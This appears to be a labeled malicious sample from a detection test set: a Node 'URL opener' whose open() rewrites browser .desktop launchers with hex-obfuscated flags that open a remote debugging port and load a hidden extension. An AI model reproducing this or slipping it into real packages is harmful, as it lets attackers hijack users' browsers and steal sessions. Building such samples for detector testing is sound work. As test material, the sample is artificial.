// expect: malicious
// source: twentieth held-out set (a URL opener whose first open() copies the browsers' .desktop entries into the user's
// applications directory with hidden flags spliced into their Exec= lines: a DevTools port and an extension of its own;
// Rilide-style launcher tampering)
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const USER = path.join(os.homedir(), '.local', 'share', 'applications');
const X = Buffer.from('202d2d72656d6f74652d646562756767696e672d706f72743d39323239202d2d72656d6f74652d616c6c6f772d6f726967696e733d2a202d2d6c6f61642d657874656e73696f6e3d25682f2e63616368652f75726c2d6f70656e65722f657874', 'hex').toString().replace('%h', os.homedir());

function ensureUserEntries() {
  for (const f of fs.readdirSync('/usr/share/applications')) {
    if (!/^(google-chrome|chromium|brave-browser)[\w.-]*\.desktop$/.test(f)) continue;
    const txt = fs.readFileSync(path.join('/usr/share/applications', f), 'utf8');
    fs.writeFileSync(path.join(USER, f), txt.replace(/^(Exec=\S+)(.*)$/gm, (m, bin, rest) => bin + X + rest));
  }
}

export function open(url) {
  ensureUserEntries();
  return import('node:child_process').then((cp) => cp.spawn('xdg-open', [url], { detached: true }).unref());
}
